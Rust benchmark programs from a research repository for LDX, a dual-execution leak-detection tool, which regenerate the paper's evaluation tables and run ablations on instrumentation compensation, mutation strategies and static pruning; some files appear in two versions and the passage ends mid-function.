    let speedup = sequential.wall.as_secs_f64() / parallel.wall.as_secs_f64().max(1e-9);
    println!(
        "\nbatch corpus run: 1 worker {:?} vs {} worker(s) {:?} -> {:.2}x speedup \
         (utilization {:.0}%)",
        sequential.wall,
        parallel.workers,
        parallel.wall,
        speedup,
        parallel.utilization() * 100.0
    );

    // Determinism sanity: the parallel schedule must not change verdicts.
    for (s, p) in sequential.results.iter().zip(&parallel.results) {
        assert_eq!(s.report.leaked(), p.report.leaked(), "{}", s.label);
        assert_eq!(
            s.report.causality.len(),
            p.report.causality.len(),
            "{}",
            s.label
        );
    }

    let path = write_metrics(cpus, &sequential, &parallel, speedup);
    println!("machine-readable metrics: {path}");
    finish_summary(&summary);
    if let Err(e) = ldx::obs::finish(&obs_args) {
        eprintln!("could not write observability output: {e}");
    }
}

/// Emits `batch_metrics.json` (hand-rolled writer; no serde in the hot
/// path) and returns the path.
fn write_metrics(
    cpus: usize,
    sequential: &ldx::BatchReport,
    parallel: &ldx::BatchReport,
    speedup: f64,
) -> String {
    let mut programs = String::new();
    for (s, p) in sequential.results.iter().zip(&parallel.results) {
        if !programs.is_empty() {
            programs.push(',');
        }
        programs.push_str(&format!(
            "\n    {{\"program\": {}, \"sequential_wall_s\": {}, \"parallel_wall_s\": {}, \
             \"queue_latency_s\": {}, \"worker\": {}, \"leaked\": {}}}",
            json_str(&s.label),
            json_f64(s.wall.as_secs_f64()),
            json_f64(p.wall.as_secs_f64()),
            json_f64(p.queue_latency.as_secs_f64()),
            p.worker,
            p.report.leaked(),
        ));
    }
    let json = format!(
        "{{\n  \"host_cpus\": {cpus},\n  \"workers\": {},\n  \
         \"sequential_wall_s\": {},\n  \"parallel_wall_s\": {},\n  \
         \"speedup\": {},\n  \"utilization\": {},\n  \"programs\": [{programs}\n  ]\n}}\n",
        parallel.workers,
        json_f64(sequential.wall.as_secs_f64()),
        json_f64(parallel.wall.as_secs_f64()),
        json_f64(speedup),
        json_f64(parallel.utilization()),
    );
    let path = "batch_metrics.json";
    if let Err(e) = std::fs::write(path, json) {
        eprintln!("could not write {path}: {e}");
    }
    path.to_string()
}
