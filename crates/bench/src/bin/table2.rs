//! Regenerates paper **Table 2**: effectiveness of dual execution.
//!
//! For every SPEC-like and network/system workload, two mutations run:
//! Input 1 (expected to leak) and Input 2 (expected benign; `-` when no
//! benign mutation exists — the paper's numerical programs). Verdicts are
//! `O` (leak reported) / `X` (no warning). The TightLip baseline is run on
//! the same pairs: its inability to align through path differences makes
//! it report `O` for the benign inputs too. The last columns count the
//! syscall differences LDX tolerated and their fraction of the master's
//! dynamic syscalls.
//!
//! Rows (each a leak + benign + two TightLip runs) execute on the batch
//! engine's pool and print in submission order — byte-identical to a
//! sequential run.
//!
//! Run: `cargo run -p ldx-bench --bin table2`

use ldx::{BatchEngine, InstrumentCache};
use ldx_baselines::tightlip_execute;
use ldx_dualex::dual_execute;
use ldx_runtime::ExecConfig;
use ldx_workloads::{by_suite, Suite};

fn verdict(leak: bool) -> &'static str {
    if leak {
        "O"
    } else {
        "X"
    }
}

use ldx_bench::{finish_summary, BenchSummary};

fn main() {
    let (args, obs_args) = ldx::obs::parse_obs_args(std::env::args().skip(1).collect());
    ldx::obs::init(&obs_args);
    let (_args, mut summary) = BenchSummary::from_args("table2", args);
    let phase_start = std::time::Instant::now();
    println!(
        "{:<10} {:>6} {:>6} {:>9} {:>9} {:>12} {:>8}",
        "program", "ldx-1", "ldx-2", "tightlip1", "tightlip2", "sys-diffs", "diff%"
    );
    let mut workloads = by_suite(Suite::NetSys);
    workloads.extend(by_suite(Suite::SpecLike));

    let engine = BatchEngine::auto();
    let cache = InstrumentCache::new();
    let rows = engine.map_ordered(workloads, |w| {
        let program = cache.program(&w.source).expect("workload compiles");

        // Input 1: the leaking mutation.
        let r1 = dual_execute(program.clone(), &w.world, &w.dual_spec());
        let t1 = tightlip_execute(
            program.clone(),
            &w.world,
            &w.sources,
            &w.sinks,
            ExecConfig::default(),
        );

        // Input 2: the benign mutation, if one exists.
        let (ldx2, tl2, diffs, pct) = match w.benign_spec() {
            Some(spec) => {
                let r2 = dual_execute(program.clone(), &w.world, &spec);
                let t2 = tightlip_execute(
                    program.clone(),
                    &w.world,
                    spec.sources.as_slice(),
                    &w.sinks,
                    ExecConfig::default(),
                );
                let master_sys = r2
                    .master
                    .as_ref()
                    .map(|o| o.stats.syscalls)
                    .unwrap_or(0)
                    .max(1);
                let total_diffs = r2.syscall_diffs + r2.decoupled;
                (
                    verdict(r2.leaked()),
                    verdict(t2.reported),
                    total_diffs,
                    total_diffs as f64 * 100.0 / master_sys as f64,
                )
            }
            None => ("-", "-", 0, 0.0),
        };

        format!(
            "{:<10} {:>6} {:>6} {:>9} {:>9} {:>12} {:>7.2}%",
            w.name,
            verdict(r1.leaked()),
            ldx2,
            verdict(t1.reported),
            tl2,
            diffs,
            pct,
        )
    });

    for line in rows {
        println!("{line}");
    }
    println!(
        "\nexpected shape: LDX column 2 is X wherever a benign mutation exists, \
         while TightLip reports O for both inputs whenever the mutation \
         perturbs the syscall stream (paper §8.2)."
    );
    summary.phase("run", phase_start.elapsed());
    finish_summary(&summary);
    if let Err(e) = ldx::obs::finish(&obs_args) {
        eprintln!("could not write observability output: {e}");
    }
}
