//! DESIGN.md ablation: what happens without the compensation pass?
//!
//! LDX's key static ingredient is edge compensation: both branch arms
//! reach the join with the same counter, so the executions re-align after
//! a divergence. This ablation dual-executes each workload's *benign*
//! mutation twice — once with the full instrumentation, once on the
//! uninstrumented program (the dynamic per-syscall `+1` still happens,
//! but no compensation, no loop barriers, no fresh frames) — and compares
//! false reports and alignment quality.
//!
//! The (instrumented, naive) pairs run as one flat batch on the
//! work-stealing pool; the instrumentation cache supplies both compiled
//! forms from one parse each.
//!
//! Run: `cargo run -p ldx-bench --bin ablation_compensation`

use ldx::{BatchEngine, BatchJob, InstrumentCache};

use ldx_bench::{finish_summary, BenchSummary};

fn main() {
    let (args, obs_args) = ldx::obs::parse_obs_args(std::env::args().skip(1).collect());
    ldx::obs::init(&obs_args);
    let (_args, mut summary) = BenchSummary::from_args("ablation_compensation", args);
    let phase_start = std::time::Instant::now();
    println!(
        "{:<12} {:>12} {:>12} {:>14} {:>14}",
        "program", "false+instr", "false-naive", "shared+instr", "shared-naive"
    );
    let workloads: Vec<_> = ldx_workloads::corpus()
        .into_iter()
        .filter(|w| w.benign_spec().is_some())
        .collect();
    let engine = BatchEngine::auto();
    let cache = InstrumentCache::new();

    let mut jobs = Vec::with_capacity(workloads.len() * 2);
    for w in &workloads {
        let spec = w.benign_spec().expect("filtered above");
        jobs.push(BatchJob::new(
            format!("{}/instr", w.name),
            cache.program(&w.source).expect("workload compiles"),
            w.world.clone(),
            spec.clone(),
        ));
        jobs.push(BatchJob::new(
            format!("{}/naive", w.name),
            cache.uninstrumented(&w.source).expect("workload compiles"),
            w.world.clone(),
            spec,
        ));
    }
    let batch = engine.run(jobs);

    let mut false_instr = 0u32;
    let mut false_naive = 0u32;
    let rows = workloads.len() as u32;
    for (w, pair) in workloads.iter().zip(batch.results.chunks(2)) {
        let instrumented = &pair[0].report;
        let naive = &pair[1].report;
        if instrumented.leaked() {
            false_instr += 1;
        }
        if naive.leaked() {
            false_naive += 1;
        }
        println!(
            "{:<12} {:>12} {:>12} {:>14} {:>14}",
            w.name,
            if instrumented.leaked() { "O" } else { "X" },
            if naive.leaked() { "O" } else { "X" },
            instrumented.shared,
            naive.shared,
        );
    }
    println!(
        "\nfalse reports on {rows} benign mutations: {false_instr} with \
         compensation, {false_naive} without."
    );
    println!(
        "expected shape: compensation keeps false reports at 0; the naive \
         counter loses alignment after any path difference, producing \
         spurious sink mismatches and fewer shared outcomes."
    );
    summary.phase("run", phase_start.elapsed());
    finish_summary(&summary);
    if let Err(e) = ldx::obs::finish(&obs_args) {
        eprintln!("could not write observability output: {e}");
    }
}
