//! DESIGN.md ablation: what happens without the compensation pass?
//!
//! LDX's key static ingredient is edge compensation: both branch arms
//! reach the join with the same counter, so the executions re-align after
//! a divergence. This ablation dual-executes each workload's *benign*
//! mutation twice — once with the full instrumentation, once on the
//! uninstrumented program (the dynamic per-syscall `+1` still happens,
//! but no compensation, no loop barriers, no fresh frames) — and compares
//! false reports and alignment quality.
//!
//! Run: `cargo run -p ldx-bench --bin ablation_compensation`

use ldx_dualex::dual_execute;

fn main() {
    println!(
        "{:<12} {:>12} {:>12} {:>14} {:>14}",
        "program", "false+instr", "false-naive", "shared+instr", "shared-naive"
    );
    let mut false_instr = 0u32;
    let mut false_naive = 0u32;
    let mut rows = 0u32;
    for w in ldx_workloads::corpus() {
        let Some(spec) = w.benign_spec() else {
            continue;
        };
        rows += 1;
        let instrumented = dual_execute(w.program(), &w.world, &spec);
        let naive = dual_execute(w.program_uninstrumented(), &w.world, &spec);
        if instrumented.leaked() {
            false_instr += 1;
        }
        if naive.leaked() {
            false_naive += 1;
        }
        println!(
            "{:<12} {:>12} {:>12} {:>14} {:>14}",
            w.name,
            if instrumented.leaked() { "O" } else { "X" },
            if naive.leaked() { "O" } else { "X" },
            instrumented.shared,
            naive.shared,
        );
    }
    println!(
        "\nfalse reports on {rows} benign mutations: {false_instr} with \
         compensation, {false_naive} without."
    );
    println!(
        "expected shape: compensation keeps false reports at 0; the naive \
         counter loses alignment after any path difference, producing \
         spurious sink mismatches and fewer shared outcomes."
    );
}
