//! §8.3 "Input Mutation" study: compares mutation strategies.
//!
//! The paper: "off-by-one mutation ... must detect any strong CCs as
//! proved ... We conduct an experiment to study different mutation
//! strategies. We observe that other strategies do not supersede
//! off-by-one." Here, every corpus workload with a leaking spec is re-run
//! under each strategy; the table reports how many leaks each one detects.
//!
//! Run: `cargo run -p ldx-bench --bin ablation_mutation`

use ldx_dualex::{dual_execute, DualSpec, Mutation, SourceSpec};

fn main() {
    let strategies = [
        ("off-by-one", Mutation::OffByOne),
        ("bit-flip", Mutation::BitFlip),
        ("zero", Mutation::Zero),
        ("identity", Mutation::Identity),
    ];
    println!(
        "{:<12} {}",
        "program",
        strategies
            .iter()
            .map(|(n, _)| format!("{n:>11}"))
            .collect::<String>()
    );

    let mut detected = vec![0u32; strategies.len()];
    let mut total = 0u32;
    for w in ldx_workloads::corpus() {
        total += 1;
        let program = w.program();
        let mut row = format!("{:<12}", w.name);
        for (i, (_, mutation)) in strategies.iter().enumerate() {
            let spec = DualSpec {
                sources: w
                    .sources
                    .iter()
                    .map(|s| SourceSpec {
                        matcher: s.matcher.clone(),
                        mutation: mutation.clone(),
                    })
                    .collect(),
                sinks: w.sinks.clone(),
                trace: false,
                enforcement: false,
                exec: Default::default(),
            };
            let report = dual_execute(program.clone(), &w.world, &spec);
            let leak = report.leaked();
            if leak {
                detected[i] += 1;
            }
            row.push_str(&format!("{:>11}", if leak { "O" } else { "X" }));
        }
        println!("{row}");
    }
    println!("\ndetections out of {total}:");
    for (i, (name, _)) in strategies.iter().enumerate() {
        println!("  {name:<12} {}", detected[i]);
    }
    println!(
        "\nreading: identity detects nothing on deterministic programs (any \
         identity hit is a race-induced false positive on a concurrent \
         workload — the paper's §7 caveat). Off-by-one is the \
         only strategy with a *guarantee* — it flips every strong \
         (one-to-one) causality — but strategies are incomparable on weak \
         flows: zeroing collapses distinct values (many-to-one) yet can \
         flip coarse predicates a one-step perturbation cannot, and \
         threshold-style leaks need threshold-crossing inputs. This is the \
         paper's point that no strategy supersedes off-by-one where it \
         matters (strong causality), not that off-by-one dominates \
         pointwise."
    );
}
