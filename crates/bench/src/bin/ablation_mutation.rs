//! §8.3 "Input Mutation" study: compares mutation strategies.
//!
//! The paper: "off-by-one mutation ... must detect any strong CCs as
//! proved ... We conduct an experiment to study different mutation
//! strategies. We observe that other strategies do not supersede
//! off-by-one." Here, every corpus workload with a leaking spec is re-run
//! under each strategy; the table reports how many leaks each one detects.
//!
//! The `workloads × strategies` grid runs as one flat batch on the
//! work-stealing pool; submission-ordered results are re-chunked into
//! rows, so the table is byte-identical to a sequential run.
//!
//! Run: `cargo run -p ldx-bench --bin ablation_mutation`

use ldx::{BatchEngine, BatchJob, InstrumentCache};
use ldx_dualex::{DualSpec, Mutation, SourceSpec};

use ldx_bench::{finish_summary, BenchSummary};

fn main() {
    let (args, obs_args) = ldx::obs::parse_obs_args(std::env::args().skip(1).collect());
    ldx::obs::init(&obs_args);
    let (_args, mut summary) = BenchSummary::from_args("ablation_mutation", args);
    let phase_start = std::time::Instant::now();
    let strategies = [
        ("off-by-one", Mutation::OffByOne),
        ("bit-flip", Mutation::BitFlip),
        ("zero", Mutation::Zero),
        ("identity", Mutation::Identity),
    ];
    println!(
        "{:<12} {}",
        "program",
        strategies
            .iter()
            .map(|(n, _)| format!("{n:>11}"))
            .collect::<String>()
    );

    let workloads = ldx_workloads::corpus();
    let engine = BatchEngine::auto();
    let cache = InstrumentCache::new();

    let mut jobs = Vec::with_capacity(workloads.len() * strategies.len());
    for w in &workloads {
        let program = cache.program(&w.source).expect("workload compiles");
        for (name, mutation) in &strategies {
            let spec = DualSpec {
                sources: w
                    .sources
                    .iter()
                    .map(|s| SourceSpec {
                        matcher: s.matcher.clone(),
                        mutation: mutation.clone(),
                    })
                    .collect(),
                sinks: w.sinks.clone(),
                trace: false,
                record: false,
                enforcement: false,
                exec: Default::default(),
            };
            jobs.push(BatchJob::new(
                format!("{}/{name}", w.name),
                program.clone(),
                w.world.clone(),
                spec,
            ));
        }
    }
    let batch = engine.run(jobs);

    let mut detected = vec![0u32; strategies.len()];
    let total = workloads.len() as u32;
    for (w, chunk) in workloads.iter().zip(batch.results.chunks(strategies.len())) {
        let mut row = format!("{:<12}", w.name);
        for (i, result) in chunk.iter().enumerate() {
            let leak = result.report.leaked();
            if leak {
                detected[i] += 1;
            }
            row.push_str(&format!("{:>11}", if leak { "O" } else { "X" }));
        }
        println!("{row}");
    }
    println!("\ndetections out of {total}:");
    for (i, (name, _)) in strategies.iter().enumerate() {
        println!("  {name:<12} {}", detected[i]);
    }
    println!(
        "\nreading: identity detects nothing on deterministic programs (any \
         identity hit is a race-induced false positive on a concurrent \
         workload — the paper's §7 caveat). Off-by-one is the \
         only strategy with a *guarantee* — it flips every strong \
         (one-to-one) causality — but strategies are incomparable on weak \
         flows: zeroing collapses distinct values (many-to-one) yet can \
         flip coarse predicates a one-step perturbation cannot, and \
         threshold-style leaks need threshold-crossing inputs. This is the \
         paper's point that no strategy supersedes off-by-one where it \
         matters (strong causality), not that off-by-one dominates \
         pointwise."
    );
    summary.phase("run", phase_start.elapsed());
    finish_summary(&summary);
    if let Err(e) = ldx::obs::finish(&obs_args) {
        eprintln!("could not write observability output: {e}");
    }
}
