//! Runs `ldx explain` over the whole workload corpus and writes one
//! provenance report per workload — the CI divergence-forensics sweep.
//!
//! For every corpus workload the analysis runs the per-source
//! attribution with the flight recorder on, reconstructs the causal
//! chains, and writes `explain_<name>.json` into the output directory
//! (`schemas/explain_schema.json` format; validated in CI by
//! `scripts/check_explain_output.py`). The binary itself asserts the
//! truthfulness invariants: a workload expected to leak must produce at
//! least one chain, and every chain must name a sink.
//!
//! Run: `cargo run -p ldx-bench --release --bin explain_corpus [--out <dir>] [--summary]`

use ldx::Analysis;
use ldx_bench::{finish_summary, BenchSummary};
use std::path::Path;
use std::process::ExitCode;

fn main() -> ExitCode {
    let (args, obs_args) = ldx::obs::parse_obs_args(std::env::args().skip(1).collect());
    ldx::obs::init(&obs_args);
    let (args, mut summary) = BenchSummary::from_args("explain_corpus", args);
    let mut out_dir = "explain_out".to_string();
    let mut it = args.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--out" => {
                if let Some(dir) = it.next() {
                    out_dir = dir.clone();
                }
            }
            other => {
                eprintln!("unknown argument {other}");
                eprintln!("usage: explain_corpus [--out <dir>] [--summary]");
                return ExitCode::from(2);
            }
        }
    }
    if let Err(e) = std::fs::create_dir_all(&out_dir) {
        eprintln!("cannot create {out_dir}: {e}");
        return ExitCode::from(2);
    }

    let phase_start = std::time::Instant::now();
    let mut failures = 0usize;
    let mut chains = 0usize;
    let corpus = ldx_workloads::corpus();
    let total = corpus.len();
    for w in corpus {
        let mut analysis = Analysis::for_source(&w.source)
            .expect("corpus workload compiles")
            .world(w.world.clone())
            .sinks(w.sinks.clone());
        for s in &w.sources {
            analysis = analysis.source(s.clone());
        }
        let report = analysis.explain(w.name);
        if w.expect_leak && !report.any_causal() {
            eprintln!("FAIL {}: expected a causal chain, got none", w.name);
            failures += 1;
        }
        for chain in &report.chains {
            if chain.sink.sys.is_empty() {
                eprintln!("FAIL {}: chain without a sink syscall", w.name);
                failures += 1;
            }
        }
        chains += report.chains.len();
        let path = Path::new(&out_dir).join(format!("explain_{}.json", w.name));
        if let Err(e) = std::fs::write(&path, report.to_json()) {
            eprintln!("cannot write {}: {e}", path.display());
            failures += 1;
        }
    }
    summary.phase("explain-corpus", phase_start.elapsed());
    println!(
        "explained {total} workloads -> {out_dir}/ ({chains} causal chains, {failures} failures)"
    );
    finish_summary(&summary);
    if let Err(e) = ldx::obs::finish(&obs_args) {
        eprintln!("could not write observability output: {e}");
        return ExitCode::from(2);
    }
    ExitCode::from(u8::from(failures > 0))
}
