//! Regenerates paper **Table 3**: effectiveness of causality inference.
//!
//! The paper's headline claim: "LIBDFT and TaintGrind can only detect
//! 31.47% and 20% of the true information leak cases and attacks detected
//! by LDX" (§1), because data-dependence tracking misses control-induced
//! causality. For every workload (and the §8.4 case studies) this binary
//! reports:
//!
//! * the per-tool **verdict** — did the tool flag the known leak/attack at
//!   all (`O`/`X`)? This is the "cases detected" metric of the claim;
//! * the per-tool tainted-sink **instance counts** and the total dynamic
//!   sinks (the table's raw columns). Note a structural point the paper
//!   makes in §2: dependence tracking *over*-approximates on data-rich
//!   programs (weak, many-to-one flows get tainted even when the output
//!   cannot actually be influenced), so instance counts can exceed LDX's
//!   confirmed-causality counts on some rows while whole cases are still
//!   missed on others.
//!
//! Structural invariants reproduced: LIBDFT cases ⊆ TAINTGRIND cases ⊆
//! LDX cases, and LDX detects 100% of the planted cases with no false
//! positives (Table 2's benign column).
//!
//! Rows are independent, so they run on the batch engine's work-stealing
//! pool (`ldx::BatchEngine`); a shared `InstrumentCache` compiles each
//! distinct source once for the instrumented + plain forms. Results are
//! collected in submission order, so the table bytes are identical to a
//! sequential run.
//!
//! Run: `cargo run -p ldx-bench --bin table3`

use ldx::{BatchEngine, InstrumentCache};
use ldx_dualex::dual_execute;
use ldx_taint::{taint_execute, TaintPolicy};

struct Row {
    line: String,
    ldx: bool,
    tg: bool,
    dft: bool,
}

use ldx_bench::{finish_summary, BenchSummary};

fn main() {
    let (args, obs_args) = ldx::obs::parse_obs_args(std::env::args().skip(1).collect());
    ldx::obs::init(&obs_args);
    let (_args, mut summary) = BenchSummary::from_args("table3", args);
    let phase_start = std::time::Instant::now();
    println!(
        "{:<12} {:>5} {:>5} {:>5} | {:>9} {:>11} {:>8} {:>12}",
        "program", "ldx", "tg", "dft", "ldx-sinks", "tg-sinks", "dft-sinks", "total-sinks"
    );
    let mut workloads = ldx_workloads::corpus();
    workloads.push(ldx_workloads::preprocessor_case_study());
    workloads.push(ldx_workloads::showip_case_study());

    let engine = BatchEngine::auto();
    let cache = InstrumentCache::new();
    let rows = engine.map_ordered(workloads, |w| {
        let program = cache.program(&w.source).expect("workload compiles");
        let ldx_report = dual_execute(program, &w.world, &w.dual_spec());
        let uninstrumented = cache.uninstrumented(&w.source).expect("workload compiles");
        // The taint tools analyze the *attack/mutated* input, like the
        // paper running each exploit under the tool.
        let taint_world = ldx_baselines::mutate_config(&w.world, &w.sources);
        let tg = taint_execute(
            &uninstrumented,
            &taint_world,
            &w.sources,
            &w.sinks,
            TaintPolicy::TaintGrindLike,
        );
        let dft = taint_execute(
            &uninstrumented,
            &taint_world,
            &w.sources,
            &w.sinks,
            TaintPolicy::LibDftLike,
        );
        let v = |b: bool| if b { "O" } else { "X" };
        Row {
            line: format!(
                "{:<12} {:>5} {:>5} {:>5} | {:>9} {:>11} {:>8} {:>12}",
                w.name,
                v(ldx_report.leaked()),
                v(tg.any_tainted()),
                v(dft.any_tainted()),
                ldx_report.tainted_sinks(),
                tg.tainted_sink_instances,
                dft.tainted_sink_instances,
                tg.total_sink_instances,
            ),
            ldx: ldx_report.leaked(),
            tg: tg.any_tainted(),
            dft: dft.any_tainted(),
        }
    });

    let cases = rows.len() as u32;
    let mut ldx_cases = 0u32;
    let mut tg_cases = 0u32;
    let mut dft_cases = 0u32;
    for row in &rows {
        ldx_cases += u32::from(row.ldx);
        tg_cases += u32::from(row.tg);
        dft_cases += u32::from(row.dft);
        println!("{}", row.line);
    }
    println!(
        "\ncases detected: LDX {ldx_cases}/{cases} (100% expected), \
         TAINTGRIND {tg_cases}/{cases} ({:.1}% of LDX), \
         LIBDFT {dft_cases}/{cases} ({:.1}% of LDX)",
        tg_cases as f64 * 100.0 / ldx_cases.max(1) as f64,
        dft_cases as f64 * 100.0 / ldx_cases.max(1) as f64,
    );
    println!("paper: TAINTGRIND 31.47%, LIBDFT 20% of LDX's detected cases.");
    summary.phase("run", phase_start.elapsed());
    finish_summary(&summary);
    if let Err(e) = ldx::obs::finish(&obs_args) {
        eprintln!("could not write observability output: {e}");
    }
}
