//! Regenerates paper **Table 3**: effectiveness of causality inference.
//!
//! The paper's headline claim: "LIBDFT and TaintGrind can only detect
//! 31.47% and 20% of the true information leak cases and attacks detected
//! by LDX" (§1), because data-dependence tracking misses control-induced
//! causality. For every workload (and the §8.4 case studies) this binary
//! reports:
//!
//! * the per-tool **verdict** — did the tool flag the known leak/attack at
//!   all (`O`/`X`)? This is the "cases detected" metric of the claim;
//! * the per-tool tainted-sink **instance counts** and the total dynamic
//!   sinks (the table's raw columns). Note a structural point the paper
//!   makes in §2: dependence tracking *over*-approximates on data-rich
//!   programs (weak, many-to-one flows get tainted even when the output
//!   cannot actually be influenced), so instance counts can exceed LDX's
//!   confirmed-causality counts on some rows while whole cases are still
//!   missed on others.
//!
//! Structural invariants reproduced: LIBDFT cases ⊆ TAINTGRIND cases ⊆
//! LDX cases, and LDX detects 100% of the planted cases with no false
//! positives (Table 2's benign column).
//!
//! Run: `cargo run -p ldx-bench --bin table3`

use ldx_dualex::dual_execute;
use ldx_taint::{taint_execute, TaintPolicy};

fn main() {
    println!(
        "{:<12} {:>5} {:>5} {:>5} | {:>9} {:>11} {:>8} {:>12}",
        "program", "ldx", "tg", "dft", "ldx-sinks", "tg-sinks", "dft-sinks", "total-sinks"
    );
    let mut cases = 0u32;
    let mut ldx_cases = 0u32;
    let mut tg_cases = 0u32;
    let mut dft_cases = 0u32;
    let mut workloads = ldx_workloads::corpus();
    workloads.push(ldx_workloads::preprocessor_case_study());
    workloads.push(ldx_workloads::showip_case_study());
    for w in workloads {
        let program = w.program();
        let ldx_report = dual_execute(program.clone(), &w.world, &w.dual_spec());
        let uninstrumented = w.program_uninstrumented();
        // The taint tools analyze the *attack/mutated* input, like the
        // paper running each exploit under the tool.
        let taint_world = ldx_baselines::mutate_config(&w.world, &w.sources);
        let tg = taint_execute(
            &uninstrumented,
            &taint_world,
            &w.sources,
            &w.sinks,
            TaintPolicy::TaintGrindLike,
        );
        let dft = taint_execute(
            &uninstrumented,
            &taint_world,
            &w.sources,
            &w.sinks,
            TaintPolicy::LibDftLike,
        );
        cases += 1;
        let v = |b: bool| if b { "O" } else { "X" };
        if ldx_report.leaked() {
            ldx_cases += 1;
        }
        if tg.any_tainted() {
            tg_cases += 1;
        }
        if dft.any_tainted() {
            dft_cases += 1;
        }
        println!(
            "{:<12} {:>5} {:>5} {:>5} | {:>9} {:>11} {:>8} {:>12}",
            w.name,
            v(ldx_report.leaked()),
            v(tg.any_tainted()),
            v(dft.any_tainted()),
            ldx_report.tainted_sinks(),
            tg.tainted_sink_instances,
            dft.tainted_sink_instances,
            tg.total_sink_instances,
        );
    }
    println!(
        "\ncases detected: LDX {ldx_cases}/{cases} (100% expected), \
         TAINTGRIND {tg_cases}/{cases} ({:.1}% of LDX), \
         LIBDFT {dft_cases}/{cases} ({:.1}% of LDX)",
        tg_cases as f64 * 100.0 / ldx_cases.max(1) as f64,
        dft_cases as f64 * 100.0 / ldx_cases.max(1) as f64,
    );
    println!("paper: TAINTGRIND 31.47%, LIBDFT 20% of LDX's detected cases.");
}
