//! Pruning ablation: per-source attribution with and without the
//! `ldx-sdep` static pre-filter.
//!
//! Every corpus workload is attributed over its declared sources *plus*
//! every statically discovered input resource (file paths read, peers
//! received from, client ports served), so the pruner has realistic inert
//! pairs to remove. Both modes run the same source list; the table
//! reports how many dual executions each mode needed, the wall-clock for
//! the whole attribution, and whether the verdicts are identical — they
//! must be, and the binary exits non-zero if any workload disagrees or if
//! pruning removed nothing anywhere.
//!
//! Concurrent-suite workloads are exempt from the verdict comparison
//! (shown as `race` instead of yes/no): their reports differ run-to-run
//! from scheduling nondeterminism alone, with or without pruning. The
//! pruner never skips a pair on a threaded program (see
//! `StaticAnalysis::may_cause`), so there is nothing to compare.
//!
//! Run: `cargo run -p ldx-bench --bin ablation_prune [--metrics m.json]`

use ldx::{Analysis, BatchEngine, SourceAttribution};
use std::process::ExitCode;
use std::time::Instant;

/// The comparable bytes of an attribution result: index, matcher, verdict,
/// and the causality records (pruned placeholders have none by
/// construction, so equality here is exactly "pruning changed nothing").
fn verdicts(attrs: &[SourceAttribution]) -> String {
    attrs
        .iter()
        .map(|a| {
            format!(
                "#{} {:?} causal={} records={:?}\n",
                a.index, a.source.matcher, a.causal, a.report.causality
            )
        })
        .collect()
}

use ldx_bench::{finish_summary, BenchSummary};

fn main() -> ExitCode {
    let (args, obs_args) = ldx::obs::parse_obs_args(std::env::args().skip(1).collect());
    ldx::obs::init(&obs_args);
    let (_args, mut summary) = BenchSummary::from_args("ablation_prune", args);
    let phase_start = std::time::Instant::now();
    println!(
        "{:<12} {:>7} {:>7} {:>9} {:>9} {:>9} {:>9} {:>6}",
        "program", "sources", "pruned", "runs-on", "runs-off", "ms-on", "ms-off", "same"
    );

    let engine = BatchEngine::auto();
    let mut total_pruned = 0usize;
    let mut total_runs_on = 0usize;
    let mut total_runs_off = 0usize;
    let mut all_same = true;

    for w in ldx_workloads::corpus() {
        let mut analysis = Analysis::for_source(&w.source)
            .expect("workload compiles")
            .world(w.world.clone())
            .sinks(w.sinks.clone());
        let mut sources = w.sources.clone();
        for discovered in analysis.static_analysis().discovered_sources() {
            if !sources.iter().any(|s| s.matcher == discovered.matcher) {
                sources.push(discovered);
            }
        }
        for s in &sources {
            analysis = analysis.source(s.clone());
        }

        let t = Instant::now();
        let with_prune = analysis.attribute_sources_with(&engine);
        let ms_on = t.elapsed().as_secs_f64() * 1e3;
        let t = Instant::now();
        let without_prune = analysis.clone().no_prune().attribute_sources_with(&engine);
        let ms_off = t.elapsed().as_secs_f64() * 1e3;

        let pruned = with_prune.iter().filter(|a| a.pruned).count();
        let runs_on = with_prune.len() - pruned;
        let runs_off = without_prune.len();
        let racy = w.suite == ldx_workloads::Suite::Concurrent;
        let same = verdicts(&with_prune) == verdicts(&without_prune);
        total_pruned += pruned;
        total_runs_on += runs_on;
        total_runs_off += runs_off;
        all_same &= same || racy;

        println!(
            "{:<12} {:>7} {:>7} {:>9} {:>9} {:>9.2} {:>9.2} {:>6}",
            w.name,
            sources.len(),
            pruned,
            runs_on,
            runs_off,
            ms_on,
            ms_off,
            if racy {
                "race"
            } else if same {
                "yes"
            } else {
                "NO"
            }
        );
    }

    println!(
        "\ntotal: pruned {total_pruned} of {total_runs_off} source runs \
         ({total_runs_on} dual executions with pruning, {total_runs_off} without)"
    );
    summary.phase("run", phase_start.elapsed());
    finish_summary(&summary);
    if let Err(e) = ldx::obs::finish(&obs_args) {
        eprintln!("could not write observability output: {e}");
    }
    if !all_same {
        eprintln!("FAIL: pruning changed at least one causality verdict");
        return ExitCode::from(1);
    }
    if total_pruned == 0 {
        eprintln!("FAIL: pruning removed no pair on the whole corpus");
        return ExitCode::from(1);
    }
    println!("ok: verdicts identical in both modes, {total_pruned} pairs pruned");
    ExitCode::SUCCESS
}
