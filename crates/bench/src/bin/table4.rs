//! Regenerates paper **Table 4**: effectiveness for concurrent programs.
//!
//! Each of the five concurrent workloads is dual-executed `N` times (100
//! by default, like the paper; pass a smaller count as `argv[1]` for quick
//! runs). Reported per program: min/max/σ of the syscall differences and
//! of the tainted-sink count. The shape to reproduce: syscall differences
//! vary run-to-run (schedules and low-level races), while tainted sinks
//! are stable except for the programs whose racy statistics feed the sink
//! (the paper's axel and x264; here `mtget` and `mtenc`).
//!
//! All `workloads × N` dual executions are submitted as one flat batch to
//! the work-stealing pool; the submission-ordered results are then
//! re-chunked per program, so the aggregation is schedule-independent.
//!
//! Run: `cargo run -p ldx-bench --bin table4 [runs]`

use ldx::{BatchEngine, BatchJob, InstrumentCache};
use ldx_bench::{finish_summary, mean, stddev, BenchSummary};
use ldx_workloads::{by_suite, Suite};

fn main() {
    let (args, obs_args) = ldx::obs::parse_obs_args(std::env::args().skip(1).collect());
    ldx::obs::init(&obs_args);
    let (args, mut summary) = BenchSummary::from_args("table4", args);
    let phase_start = std::time::Instant::now();
    let runs: usize = args
        .first()
        .and_then(|s| s.parse().ok())
        .unwrap_or(100)
        .max(1);
    println!("{runs} dual executions per program\n");
    println!(
        "{:<10} {:>28} {:>28}",
        "program", "syscall diffs (min/max/std)", "tainted sinks (min/max/std)"
    );
    let workloads = by_suite(Suite::Concurrent);
    let engine = BatchEngine::auto();
    let cache = InstrumentCache::new();

    let mut jobs = Vec::with_capacity(workloads.len() * runs);
    for w in &workloads {
        let program = cache.program(&w.source).expect("workload compiles");
        let spec = w.dual_spec();
        for run in 0..runs {
